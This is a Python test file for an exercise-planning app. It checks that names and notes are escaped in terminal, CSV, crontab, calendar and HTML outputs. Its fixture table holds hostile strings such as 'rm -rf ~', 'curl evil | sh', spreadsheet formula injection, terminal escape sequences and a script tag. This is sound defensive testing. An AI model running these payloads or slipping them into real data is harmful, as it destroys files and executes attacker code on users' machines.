"""Text from a plan or catalogue author is data at every output: a table of hostile texts.

The gates (catalogue and plan schemas) refuse control characters and line breaks where
they do not belong; each output then also defends itself, for records that got in before
(an older history file) or were built without a gate.
"""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime, time
from pathlib import Path

import pytest
from helpers.catalogue import exercise_yaml
from helpers.prescription import small_catalogue
from hypothesis import given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from rich.text import Text

from backex.catalogue.exercise import Dose
from backex.catalogue.loader import load_catalogue
from backex.cli import app
from backex.documents.handout import build_handout
from backex.documents.handout_render import render_html, render_markdown
from backex.documents.reminders import ReminderSchedule, render_crontab, render_ics
from backex.errors import CatalogueError
from backex.history.export import log_csv
from backex.history.records import ExerciseEntry, SessionRecord
from backex.planning.plan import Block, Plan, PlannedItem
from backex.prescription.loader import load_prescription
from backex.prescription.model import Frequency, FrequencyKind
from backex.text import visible
from backex.ui.catalogue_view import exercise_card, exercise_list, group_by_focus
from backex.ui.coach_view import plan_view
from backex.ui.history_view import sessions_table
from backex.ui.output import SafeConsole

HOSTILE = {
    "escape sequences": "Bridge\x1b]0;pwned\x07\x1b[2J",
    "C1 control": "Bridge\x9b2J",
    "line break": "Bridge\n* * * * * rm -rf ~",
    "carriage return": "Bridge\r0 * * * * curl evil | sh",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "formula after a sign": "+1+cmd|' /C calc'!A0",
    "shell": 'Bob\'s "plan"; $(rm -rf ~) `id` | & > < %',
    "markup": "<script>alert(1)</script> [red]x[/red] **bold** <b>",
    "rich markup": "Bridge [/x] [link=http://evil.example]click[/link] [bold]",
}
CONTROL_FREE = {"formula", "formula after a sign", "shell", "markup", "rich markup"}


def session_named(name: str) -> SessionRecord:
    at = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
    entry = ExerciseEntry(0, "bridge", Dose(reps=5), sets_done=1, reps_done=5)
    return SessionRecord(1, at, at, ("core",), {}, name, True, 2, 1, (entry,))


def terminal(renderable: object) -> str:
    """What a colour terminal receives (styles off, so any ESC would be the author's)."""
    console = SafeConsole(file=io.StringIO(), force_terminal=True, color_system=None, width=80)
    console.print(renderable)
    return console.file.getvalue()  # type: ignore[attr-defined]


# --- the gates --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ('"Bridge\\e]0;pwned\\a"', "name: must not contain control characters (found U+001B)"),
        ('"Bridge\\x9b2J"', "name: must not contain control characters (found U+009B)"),
        ('"Bridge\\nrm -rf ~"', "name: must be one line"),
        ('"Bridge\\u2028rm -rf ~"', "name: must be one line"),  # Unicode's line separator
        ('"Bridge\\u202Erm -rf ~"', "name: must not contain control characters (found U+202E)"),
        ('"' + "x" * 121 + '"', "name: must be at most 120 characters"),
    ],
)
def test_the_catalogue_gate_refuses_control_characters_and_breaks(
    tmp_path: Path, name: str, message: str
) -> None:
    path = tmp_path / "mine.yaml"
    path.write_text("exercises:\n" + exercise_yaml("mine", name), encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        load_catalogue(path)
    assert str(caught.value) == f"{path}:3:5: exercises[0].{message}"


def test_prose_may_have_line_breaks_but_no_escape(tmp_path: Path) -> None:
    path = tmp_path / "mine.yaml"
    steps = '["Lie down.\\nRelax.", "Lift \\e[2J"]'
    path.write_text("exercises:\n" + exercise_yaml("mine", "Mine", steps=steps), encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        load_catalogue(path)
    assert str(caught.value).endswith(
        "exercises[0].steps[1]: must not contain control characters (found U+001B)"
    )


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("name", '"Plan\\nx"', "name: must be one line"),
        ("prescribed_by", '"Dr\\e[2J"', "prescribed_by: must not contain control characters"),
        ("notes", '"ok\\nfine \\x07"', "notes: must not contain control characters (found U+0007)"),
    ],
)
def test_the_plan_gate_too(tmp_path: Path, field: str, value: str, message: str) -> None:
    fields = {"name": '"Plan"', "frequency": "daily", field: value}
    text = "".join(f"{k}: {v}\n" for k, v in fields.items()) + "exercises: [bridge]\n"
    path = tmp_path / "plan.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        load_prescription(path, small_catalogue())
    assert message in str(caught.value)


# --- each output, for text that got past a gate -------------------------------------------


def terminal_views(hostile: str) -> dict[str, object]:
    """Every kind of screen that shows author text, given ``hostile`` as that text."""
    bridge = replace(small_catalogue().get("bridge"), name=hostile, steps=(hostile,))
    item = PlannedItem(bridge, bridge.dose, Block.MAIN, 60, note=hostile)
    return {
        "show": exercise_card(bridge, {}),
        "list": exercise_list(group_by_focus([bridge]), 80),
        "list, narrow": exercise_list(group_by_focus([bridge]), 40),
        "plan": plan_view(Plan((item,)), 80),
        "history": sessions_table([session_named(hostile)], 80),
    }


@pytest.mark.parametrize("view", terminal_views("x"))
@pytest.mark.parametrize("kind", HOSTILE)
def test_terminal(kind: str, view: str) -> None:
    written = terminal(terminal_views(HOSTILE[kind])[view])
    assert "\x1b" not in written and "\x9b" not in written and "\x07" not in written
    if kind == "escape sequences":
        assert "␛]0;pwned" in written  # shown, not obeyed (Rich itself drops the BEL)
    if kind == "markup":
        assert "[red]x[/red]" in written  # Rich markup in a name stays text
    if kind == "rich markup":  # shown as written; an unmatched [/x] used to raise
        assert "[/x]" in written and "[link=http://evil.example]click[/link]" in written


def test_show_prints_a_markup_name_as_written(tmp_path: Path, isolated_home: Path) -> None:
    from typer.testing import CliRunner

    name = "Wall [/x] sit [red]red[/red]"
    path = tmp_path / "mine.yaml"
    steps = '["Lean [/x] on a [bold]wall[/bold]."]'
    text = "exercises:\n" + exercise_yaml("mine", f'"{name}"', steps=steps)
    path.write_text(text, encoding="utf-8")
    result = CliRunner().invoke(app, ["show", "mine", "--catalogue", str(path)])
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].startswith(f"╭─ {name} (mine) ─")
    assert "│ 1. Lean [/x] on a [bold]wall[/bold]." in [line.rstrip(" │") for line in lines]


@pytest.mark.parametrize("kind", HOSTILE)
def test_csv(kind: str) -> None:
    rows = list(csv.reader(io.StringIO(log_csv([session_named(HOSTILE[kind])]), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    plan_name = rows[1][rows[0].index("plan_name")]
    # The text itself is kept (a carriage return as a newline, so the row stays whole);
    # a control that would act when the file is printed shows as its symbol.
    assert plan_name.lstrip("'") == visible(HOSTILE[kind].replace("\r", "\n"))
    assert "\x1b" not in plan_name and "\x9b" not in plan_name


@pytest.mark.parametrize("kind", HOSTILE)
def test_crontab(kind: str) -> None:
    schedule = ReminderSchedule(times=(time(8), time(13)), title=HOSTILE[kind])
    lines = render_crontab(schedule, uid=1000).splitlines()
    commands = [line for line in lines if not line.startswith("#")]
    assert commands == [
        "0 8 * * * notify-send backex 'Time for your back exercises: backex routine'",
        "0 13 * * * notify-send backex 'Time for your back exercises: backex routine'",
    ]
    assert len(lines) == 6 + 2  # the comment block and one line per time


@pytest.mark.parametrize("kind", HOSTILE)
def test_icalendar(kind: str) -> None:
    schedule = ReminderSchedule(times=(time(8),), title=HOSTILE[kind], detail=HOSTILE[kind])
    raw = render_ics(schedule, start=date(2026, 3, 2), now=datetime(2026, 3, 1, tzinfo=UTC))
    assert "\x1b" not in raw and "\x07" not in raw
    (event,) = Calendar.from_ical(raw).walk("VEVENT")
    summary = str(event["SUMMARY"])
    if kind in CONTROL_FREE:
        assert summary == HOSTILE[kind]


def handout_named(name: str) -> tuple[str, str]:
    bridge = small_catalogue().get("bridge")
    item = PlannedItem(bridge, bridge.dose, Block.MAIN, 60, note=name)
    plan = Plan((item,))
    handout = build_handout(
        plan, Frequency(FrequencyKind.DAILY), title=name, issued=date(2026, 3, 2), notes=name
    )
    return render_html(handout), render_markdown(handout)


@pytest.mark.parametrize("kind", HOSTILE)
def test_html_and_markdown(kind: str) -> None:
    from markdown_it import MarkdownIt

    html, markdown = handout_named(HOSTILE[kind])
    assert "<script>alert" not in html and "\x1b" not in html
    if kind == "markup":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    rendered = MarkdownIt("commonmark").render(markdown)
    assert "<script>" not in rendered and "\x1b" not in markdown
    assert "<b>" not in rendered


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_clinician_report(kind: str) -> None:
    """A report is built from a patient's exported file: its names are author text too."""
    from markdown_it import MarkdownIt

    from backex.documents.report import build_report
    from backex.documents.report_render import render_html as report_html
    from backex.documents.report_render import render_markdown as report_markdown

    hostile = HOSTILE[kind]
    report = build_report(
        [session_named(hostile)],
        prescription=None,
        first_day=date(2026, 3, 1),
        today=date(2026, 3, 1),
        names={"bridge": hostile},
        source=hostile,
    )
    html, markdown = report_html(report), report_markdown(report)
    assert "<script>alert" not in html and "\x1b" not in html and "\x1b" not in markdown
    if kind == "markup":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    rendered = MarkdownIt("commonmark").render(markdown)
    assert "<script>" not in rendered and "<b>" not in rendered


def test_a_hostile_name_in_the_cli_history_csv(isolated_home: Path) -> None:
    from typer.testing import CliRunner

    from backex.history.store import History, SessionRecorder

    with History.open() as store:
        recorder = SessionRecorder(store)
        recorder.start({}, ["core"], 2, HOSTILE["formula"])
        recorder.finish(completed=True)
    result = CliRunner().invoke(app, ["history", "--csv"])
    assert result.exit_code == 0, result.output
    assert f",\"'{HOSTILE['formula'][:11]}" in result.stdout or "'=HYPERLINK" in result.stdout
    assert json.loads(CliRunner().invoke(app, ["history", "--json"]).stdout)["sessions"]


# --- properties ---------------------------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_text_makes_more_crontab_lines_than_the_schedule_asks(name: str) -> None:
    schedule = ReminderSchedule(times=(time(8), time(19)), title=name, command=f"backex {name}")
    text = render_crontab(schedule, uid=1000)
    lines = text.splitlines()
    assert len(lines) == 8 and text.count("\n") == 8
    assert sum(not line.startswith("#") for line in lines) == 2


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_text_makes_a_csv_cell_that_starts_a_formula(name: str) -> None:
    for row in csv.reader(io.StringIO(log_csv([session_named(name)]), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
        assert not any(c in cell for cell in row for c in ("\x1b", "\x9b", "\x07"))


@settings(max_examples=100, deadline=None)
@given(st.text(), st.sampled_from(list(terminal_views("x"))))
def test_no_text_makes_the_terminal_receive_an_escape(name: str, view: str) -> None:
    written = terminal(terminal_views(name)[view]) + terminal(Text(name)) + terminal(name)
    assert not any(c in written for c in ("\x1b", "\x9b", "\x07", "\x08", "\r"))


@pytest.mark.parametrize(
    "name",
    ["=1+1", "-Lower back", "@home", "+plus", "'quoted'", "'=already guarded", "Plain"],
)
def test_a_guarded_csv_name_reads_back_as_written(tmp_path: Path, name: str) -> None:
    """The report reads an export back: the spreadsheet guard ' comes off, and only it."""
    from backex.history.importer import read_history_file

    path = tmp_path / "export.csv"
    path.write_text(log_csv([session_named(name)]), encoding="utf-8")
    (session,) = read_history_file(path).sessions
    expected = name[1:] if name.startswith("'=") else name  # the one ambiguous spelling
    assert session.plan_name == expected
